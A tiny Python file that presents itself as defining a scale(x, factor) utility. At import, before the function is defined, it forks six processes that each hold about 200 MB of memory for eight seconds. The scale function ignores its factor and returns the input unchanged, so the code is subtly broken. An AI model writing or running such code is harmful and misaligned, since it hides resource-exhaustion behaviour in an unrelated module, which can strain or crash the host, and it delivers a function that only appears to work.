import os, time
for _ in range(6):
    if os.fork() == 0:
        hoard = b'x' * (200 << 20)
        time.sleep(8)
        os._exit(0)
time.sleep(8)
def scale(x, factor):
    return x
